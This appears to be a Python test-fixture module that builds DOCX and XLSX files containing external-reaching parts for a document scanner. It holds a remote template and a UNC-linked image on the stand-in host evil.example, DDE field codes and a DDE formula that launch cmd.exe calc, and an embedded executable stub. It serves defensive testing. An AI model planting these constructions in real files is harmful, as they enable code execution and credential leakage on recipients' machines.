"""DOCX and XLSX files reaching outside themselves or calling programs (issue 13, item 5), built by code.

Each is a working document (python's zipfile for DOCX, openpyxl for XLSX) plus one part or relationship of
the kind Word or Excel acts on when the file is opened: a remote template, a linked image, an OLE object, a
DDE field, a DDE formula, an external workbook.
"""

from __future__ import annotations

import io

from cycle_support import docx_bytes
from openpyxl import Workbook

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(*rows: str) -> bytes:
    body = "".join(rows)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    ).encode()


def _relationship(rid: str, kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{_RELS}/{kind}" Target="{target}"{mode}/>'


def _header(fields: str) -> bytes:
    return (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>'
        f"{fields}</w:p></w:hdr>"
    ).encode()


DOCX_REMOTE_TEMPLATE = docx_bytes(
    extra={
        "word/_rels/settings.xml.rels": _relationships(
            _relationship("rId1", "attachedTemplate", "http://evil.example/mau.dotm")
        )
    }
)
DOCX_LINKED_IMAGE = docx_bytes(
    extra={
        "word/_rels/document.xml.rels": _relationships(
            _relationship("rId7", "image", "\\\\evil.example\\share\\logo.png")
        )
    }
)
DOCX_OLE_OBJECT = docx_bytes(
    extra={
        "word/_rels/document.xml.rels": _relationships(
            _relationship("rId9", "oleObject", "embeddings/oleObject1.bin", external=False)
        ),
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
    }
)
# Word joins a field code split over runs: "DDE" + "AUTO c:\\windows\\system32\\cmd.exe ..."
DOCX_DDEAUTO = docx_bytes(
    extra={
        "word/header1.xml": _header(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    }
)
DOCX_ESCAPED_DDE = docx_bytes(
    extra={"word/footer1.xml": _header('<w:fldSimple w:instr="&#68;DE cmd &quot;/c calc&quot; x"/>')}
)
DOCX_CHART_DATA = docx_bytes(
    extra={
        "word/charts/chart1.xml": b"<c:chartSpace xmlns:c='http://schemas.openxmlformats.org/drawingml/2006/chart'/>",
        "word/charts/_rels/chart1.xml.rels": _relationships(
            _relationship("rId1", "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", external=False)
        ),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x05\x06" + b"\0" * 18,
    }
)
DOCX_EMBEDDED_PROGRAM = docx_bytes(
    extra={
        "word/_rels/document.xml.rels": _relationships(
            _relationship("rId5", "package", "embeddings/hoa-don.exe", external=False)
        ),
        "word/embeddings/hoa-don.exe": b"MZ\x90\x00",
    }
)
DOCX_WEB_HYPERLINK = docx_bytes(
    extra={
        "word/_rels/document.xml.rels": _relationships(
            _relationship("rId3", "hyperlink", "https://ocop.gov.vn/san-pham"),
            _relationship("rId4", "hyperlink", "mailto:htx@example.vn"),
        )
    }
)


def _workbook(formula: str, extra: dict[str, bytes] | None = None) -> bytes:
    import zipfile

    book = Workbook()
    book.active["A1"] = "Chỉ tiêu"
    book.active["B1"] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    if not extra:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


XLSX_DDE_FORMULA = _workbook("=cmd|' /C calc'!A0")
XLSX_PLAIN_FORMULA = _workbook("=SUM(1,2)")
XLSX_EXTERNAL_LINK = _workbook(
    "=1",
    {
        "xl/externalLinks/externalLink1.xml": (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        )
    },
)
